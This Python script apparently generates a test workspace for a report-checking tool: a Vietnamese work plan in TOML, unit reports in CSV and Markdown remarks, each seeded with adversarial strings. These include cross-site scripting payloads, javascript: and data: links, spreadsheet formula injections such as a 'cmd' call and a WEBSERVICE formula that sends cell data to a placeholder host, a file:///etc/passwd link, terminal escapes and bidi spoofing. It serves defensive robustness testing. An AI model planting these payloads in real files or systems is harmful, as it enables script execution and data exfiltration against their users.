#!/usr/bin/env python3
"""Writes a workspace that nobody would send and everybody must withstand: hostile.py DIR

300 tasks, 12 fields of which some are empty, 15 units, months without any report, and texts that try to be markup, script, a formula,
a link, a field, a page break. Always the same bytes. It has no error in the plan; what `reform check` finds in the reports are control
characters (F015), formulas (F016), reports without a date of receipt (F010) and the like.
"""
import csv
import pathlib
import sys

YEAR = 2024
TASKS = 300
MONTHS = (1, 2, 3, 5, 6, 9, 12)

# Anything of this that runs sets `window.__hostile`, opens a dialog or asks for an address.
MARKUP = [
    '<script>window.__hostile=1;alert(1)</script>',
    '<img src="http://x.example/i.png" onerror="window.__hostile=2">',
    '"><svg onload="window.__hostile=3"><title>x</title></svg>',
    "' onmouseover='window.__hostile=4' x='",
    '</title></style></script><script>window.__hostile=5</script>',
    '<style>*{display:none!important}</style><link rel="stylesheet" href="http://x.example/s.css">',
    '<iframe src="javascript:parent.__hostile=6"></iframe><object data="http://x.example/o"></object>',
    '</td></tr></table></main></body></html><h1>H1</h1>',
    '<!-- <![CDATA[ ]]> --> <?xml version="1.0"?> &lt;b&gt; &amp;amp; &#60;script&#62; &nbsp; &bogus;',
    '</svg></text><foreignObject><script>window.__hostile=7</script></foreignObject>',
    '</w:t></w:r></w:p><w:p><w:r><w:t>x</w:t></w:r></w:p>',
    '{{7*7}} ${7*7} <%= 7*7 %> {% raw %} #{7*7} %s %n %00 \\x3cscript\\x3e',
]
LINKS = [
    'javascript:window.__hostile=8',
    '[bấm vào đây](javascript:window.__hostile=9) ![ảnh](http://x.example/a.png) <http://x.example/>',
    'data:text/html,<script>parent.__hostile=10</script>',
    'http://x.example/a?b=c&d="e"#f file:///etc/passwd \\\\x.example\\share\\a.docx mailto:a@x.example',
]
FORMULAS = [
    '=HYPERLINK("http://x.example","y")',
    "=cmd|'/c calc'!A0",
    '@SUM(1+1)*cmd',
    '+1+1',
    '-2+3+cmd',
    '=WEBSERVICE("http://x.example/?"&A1)',
    '_x0041__x000D_ &P &N &D &[Tab] &"Arial,Bold"&24',
]
MARKDOWN = [
    '# không phải tiêu đề',
    '| a | b |\n|---|---|\n| c | d |',
    '**đậm** _nghiêng_ ~~gạch~~ `mã` \\* \\_ 1. một - hai > ba',
    '---\n```\nkhối mã\n```\n* * *',
    "a | b || c & d && \"e\" 'f' `g` ~h~ ^i^ $j$",
]
LETTERS = [
    'Chữ tổ hợp: Tie\u0302\u0301ng Vie\u0323\u0302t, Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324a\u034a\u0363\u0353',
    'Không bề rộng: a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg\u00a0h\u2028i\u2029k',
    'Hai chiều: \u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 123 (abc) \u202egpj.exe\u202c \u2066x\u2069 y',
    'Biểu tượng: \U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f1fb\U0001f1f3 \U0001f3f4\U000e0067\U000e0062\U000e007f \u2764\ufe0f \U0001f600 \U00020bb7 漢字 ไทย',
    'Ngoài Unicode: \ufffe \uffff \ufffd \U0010ffff',
]
# A terminal obeys these, and XML cannot hold them.
CONTROLS = ['Điều khiển: \x07\x08\x0b\x0c\x1b[31mđỏ\x1b[0m\x7f\x85\x9b2J', 'Số không: a\x00b\x01c\x1fd']
LONG = [
    'Từ' + 'dài' * 170 + 'hết',
    'W' * 500,
    'Tiêu đề rất dài, ' + 'nhắc đi nhắc lại việc rà soát, sửa đổi, bổ sung, thay thế, bãi bỏ quy định, ' * 20 + 'hết.',
    'dòng một\ndòng hai\r\ndòng ba\n\n\tdòng năm sau TAB',
    'https://x.example/' + 'duong-dan-rat-dai/' * 30,
]
ALL = MARKUP + LINKS + FORMULAS + MARKDOWN + LETTERS + CONTROLS + LONG
# A name stands in every table and picture: long ones, but no whole pages.
NAMES = [text[:120] for text in MARKUP + FORMULAS + MARKDOWN + LETTERS] + LONG[:2]


def pick(texts, n):
    return texts[n % len(texts)]


def quoted(text):
    """As a basic string of TOML."""
    out = ''
    for char in text:
        if char in '"\\':
            out += '\\' + char
        elif ord(char) < 32 or 127 <= ord(char) < 160:
            out += '\\u%04x' % ord(char)
        else:
            out += char
    return f'"{out}"'


ALONE = ('plan', 'reporting', 'calendar')


def table(heading, /, **values):
    head = f'[{heading}]' if heading in ALONE else f'[[{heading}]]'
    return '\n'.join([head] + [f'{key} = {written(value)}' for key, value in values.items()]) + '\n\n'


class Raw(str):
    """What TOML reads as it is: a date."""


def written(value):
    if isinstance(value, Raw):
        return value
    if isinstance(value, str):
        return quoted(value)
    if isinstance(value, bool):
        return 'true' if value else 'false'
    if isinstance(value, list):
        return '[' + ', '.join(written(it) for it in value) + ']'
    if isinstance(value, dict):
        return '{ ' + ', '.join(f'{key} = {written(it)}' for key, it in value.items()) + ' }'
    return str(value)


def unit_id(n):
    """Ids of one letter, of 32, and plain ones."""
    return {1: 'van-phong', 2: 'b', 3: 'don-vi-co-ma-dai-dung-32-ky-tu-3'}.get(n, f'don-vi-{n:02}')


UNITS = [unit_id(n) for n in range(1, 16)]
FIELDS = [f'linh-vuc-{n:02}' for n in range(1, 13)]
TASK_FIELDS = [field for n, field in enumerate(FIELDS, 1) if n not in (5, 11, 12)]
INDICATORS = [f'chi-so-{n}' for n in range(1, 7)]


def task_id(n):
    """Every third at full length; all end in their number, so that one can be looked for."""
    return f'Nhiem.Vu-co-ma-dai-dung-32.{n:05}' if n % 3 == 0 else f'T-{n:05}'


def lead(n):
    """The last unit leads nothing, the first a third of all."""
    return UNITS[0] if n % 3 == 0 else UNITS[1 + n % 13]


def schedule(n):
    kind = n % 12
    if kind == 0:
        return {'every': 'month'}
    if kind == 1:
        return {'every': 'quarter', 'by_day': 20}
    if kind == 2:
        return {'every': 'half-year'}
    if kind == 3:
        return {'ongoing': True}
    if kind == 4:
        return {'awaits': pick(ALL, n)}
    return {'due': Raw(f'{YEAR}-{1 + n % 12:02}-{1 + n % 28:02}')}


def task(n):
    values = {
        'id': task_id(n),
        'title': pick(ALL, n) or 'x',
        'field': TASK_FIELDS[n * len(TASK_FIELDS) // (TASKS + 1)],
        'output': pick(ALL, n * 7 + 3),
        'lead': lead(n),
        'with': [unit for unit in UNITS if unit != lead(n)][: n % 15],
        'weight': 1 + n % 5,
        'indicators': INDICATORS[: n % 4],
        'basis': pick(ALL, n * 5 + 1),
        'note': pick(ALL, n * 3 + 2),
        **schedule(n),
    }
    if n % 25 == 7:
        values['withdrawn'] = {'on': Raw(f'{YEAR}-05-06'), 'decision': pick(ALL, n + 2), 'reason': pick(ALL, n + 4)}
    out = table('task', **values)
    if 'due' in values and n % 9 == 5:
        for step in range(1 + n % 3):
            out += table('task.extension', on=Raw(f'{YEAR}-0{2 + step}-05'), to=Raw(f'{YEAR}-12-{29 + step}'),
                         decision=pick(ALL, n + step), reason=pick(ALL, n + step + 5))
    return out


def plan():
    issued = {'number': '…/KH-<b>&"BQL"', 'on': Raw(f'{YEAR}-01-12')}
    out = table('plan', year=YEAR, title='Kế hoạch ' + MARKUP[0] + ' & ' + FORMULAS[0] + ' ' + LONG[1], agency='Ban <b>Quản lý</b> & "Khu" ' + LETTERS[2],
                parent='Ủy ban ' + MARKUP[3], symbol='<BQL>&"', place='Hải <i>Phòng</i>', coordinator=UNITS[0],
                committee='Ban chỉ đạo ' + MARKUP[1], language='vi', issued=issued, basis=ALL, recipients=ALL + ['Lưu: <VT>, &.'],
                signatory={'authority': 'KT. <TRƯỞNG> & BAN', 'title': MARKUP[2], 'name': 'Nguyễn <b>Văn</b> A &amp; "B"'},
                purposes=ALL, requirements=MARKUP + LONG, arrangements=MARKDOWN + CONTROLS)
    out += table('reporting', cutoff_day=14, due={'day': 17, 'month': 'same'})
    out += table('calendar', holidays=[{'on': Raw(f'{YEAR}-01-01'), 'name': MARKUP[0]}])
    for n, unit in enumerate(UNITS, 1):
        role = 'office' if n == 1 else 'department' if n < 10 else 'service'
        name = 'Phòng ' + pick(NAMES, n * 4) + ' với tên gọi dài hơn mọi tên gọi mà một cơ quan có thể đặt cho một đơn vị trực thuộc của mình ' + pick(NAMES, n)
        short = 'Tên ngắn cũng rất dài, không một cột nào chứa nổi' if n % 5 == 0 else 'P' + pick(NAMES, n)[:20]
        out += table('unit', id=unit, name=name, short=short, role=role, head='Trưởng ' + pick(NAMES, n * 3))
    for n, field in enumerate(FIELDS, 1):
        out += table('field', id=field, number=pick(['I', 'II', '<b>', '=1+1', 'XXXVIII'], n), name=f'Lĩnh vực {n} ' + pick(NAMES, n * 2))
    for n in range(1, 4):
        out += table('request', id=f'{YEAR}-dot-xuat-{n}', title=pick(ALL, n * 6), issued=Raw(f'{YEAR}-0{n + 2}-02'), due=Raw(f'{YEAR}-0{n + 2}-10'))
    out += table('exemption', unit=UNITS[4], months=[f'{YEAR}-02', f'{YEAR}-08'], decision=MARKUP[4])
    for n, indicator in enumerate(INDICATORS):
        out += table('indicator', id=indicator, name=pick(NAMES, n * 3), publisher=pick(NAMES, n + 5), scale=100, better='higher' if n % 2 else 'lower',
                     baseline={'year': YEAR - 1, 'score': 80.5 + n, 'rank': n + 1}, target={'score': 99.9, 'rank': 1})
    for n in range(1, 21):
        out += table('direction', task=task_id(n * 3), raised=f'{YEAR}-01', on=Raw(f'{YEAR}-03-{n:02}'), by=pick(ALL, n), text=pick(ALL, n + 9), due=Raw(f'{YEAR}-04-{n:02}'))
    for n, measure in enumerate(['completion', 'on_time', 'reporting', 'reporting_on_time', 'progress'], 1):
        out += table('criterion', id=f'<{n}>', name=pick(ALL, n * 2), measure=measure, max=2.0, linear={'zero_at': 10, 'full_at': 100})
    return out


def progress(n, month):
    """Some finish early, some late, some stand still."""
    if n % 12 == 3:
        return min(99, n % 40 + month)
    return min(100, (n % 11) * (month + 4))


def row(n, month):
    share = progress(n, month)
    first = next((at for at in range(1, month + 1) if progress(n, at) == 100), 0)
    done = f'{1 + n % 9:02}/{first:02}/{YEAR}' if first else ''
    raises = n % 3 == 0 or n % 10 == 1
    return [task_id(n), str(share), done, pick(ALL, n + month), pick(ALL, n + 2 * month + 3) if raises else '',
            pick(ALL, n + 3 * month) if raises else '', f'{YEAR}-12-31' if n % 7 == 0 else '', pick(ALL, n * 2 + month)]


HEADER = 'task,progress,completed_on,result,difficulty,proposal,forecast,note'.split(',')


def save(path, text):
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(text.encode('utf-8'))


def save_csv(path, rows):
    path.parent.mkdir(parents=True, exist_ok=True)
    with open(path, 'w', encoding='utf-8', newline='') as file:
        csv.writer(file).writerows(rows)


def sends(at, month):
    """Not every unit sends every month: gaps, and two that never do."""
    return at < 13 and (at + month) % 5 != 0


def reports(root):
    register = [['period', 'unit', 'received_on', 'number', 'note']]
    for month in MONTHS:
        period = f'{YEAR}-{month:02}'
        for at, unit in enumerate(UNITS):
            if not sends(at, month):
                continue
            led = [n for n in range(1, TASKS + 1) if lead(n) == unit and (n + month) % 6]
            rows = [row(n, month) for n in led]
            rows.append(['*', '', '', pick(ALL, at + month), pick(ALL, at), pick(ALL, at + 4), '', pick(ALL, at + 8)])
            save_csv(root / 'reports' / period / f'{unit}.csv', [HEADER] + rows)
            if at % 6 != 4:
                late = 15 + at % 5
                register.append([period, unit, f'{YEAR}-{month:02}-{late:02}', pick(ALL, at)[:40], pick(ALL, at + 1)])
    for n in (1, 2):
        request = f'{YEAR}-dot-xuat-{n}'
        for at, unit in enumerate(UNITS[: 5 * n]):
            save_csv(root / 'reports' / 'requests' / request / f'{unit}.csv', [HEADER, ['*', '', '', pick(ALL, at), pick(ALL, at + n), '', '', '']])
            register.append([request, unit, f'{YEAR}-0{n + 2}-{7 + at:02}', '', ''])
    save_csv(root / 'reports' / 'register.csv', register)
    indicators = [['indicator', 'year', 'score', 'rank', 'published_on', 'source']]
    for n, indicator in enumerate(INDICATORS[:5]):
        for year in (YEAR - 2, YEAR - 1, YEAR):
            indicators.append([indicator, year, 70 + 5 * n + year - YEAR, n + 3, f'{year}-0{n + 1}-17', pick(ALL, n * 3)])
    save_csv(root / 'reports' / 'indicators.csv', indicators)


REMARKS = '''# Tiêu đề cấp một của người viết

Tiêu đề gạch dưới
=================

###### Tiêu đề cấp sáu

Đoạn văn với **chữ đậm**, *chữ nghiêng*, `mã`, [liên kết lạ](javascript:window.__hostile=11), [liên kết ngoài](http://x.example/?a=1&b=2 "tên"),
![ảnh ngoài](http://x.example/remarks.png "ảnh"), ![](data:image/svg+xml,<svg/onload=parent.__hostile=12>), <javascript:window.__hostile=13>, <a@x.example>, [nối][1], &copy; &lt;b&gt; \\<c\\>.

<script>window.__hostile=14;alert(2)</script>

<div onclick="window.__hostile=15"><img src="http://x.example/div.png" onerror="window.__hostile=16"></div>

Đoạn có <b>thẻ</b>, <img src=x onerror=window.__hostile=17> và <style>*{display:none}</style> ở giữa.

- một
  - hai
    1. ba
    2. bốn

       đoạn của bốn
- [ ] việc chưa làm
- [x] việc đã làm

> trích dẫn
> > trích dẫn lồng nhau

    khối thụt vào <script>window.__hostile=18</script>

```html
</code></pre><script>window.__hostile=19</script>
```

| cột | `|` | <b>đậm</b> |
|:--|:-:|--:|
| ô | =1+1 | ]]> |

***

Dòng gãy cứng\\
dòng sau. Chú thích[^1]. ''' + LONG[1] + ' ' + ' '.join(CONTROLS[0:1] + LETTERS) + '''

[1]: javascript:window.__hostile=20
[^1]: Nội dung chú thích.
'''


def main():
    if len(sys.argv) != 2:
        sys.exit('usage: hostile.py DIR')
    root = pathlib.Path(sys.argv[1])
    save(root / 'plan' / str(YEAR) / 'plan.toml', plan())
    half = TASKS // 2
    for part, numbers in (('a', range(1, half + 1)), ('b', range(half + 1, TASKS + 1))):
        save(root / 'plan' / str(YEAR) / f'tasks-{part}.toml', ''.join(task(n) for n in numbers))
    reports(root)
    for month in (3, 4, 12):
        save(root / 'reports' / f'{YEAR}-{month:02}' / 'remarks.md', REMARKS)


if __name__ == '__main__':
    main()
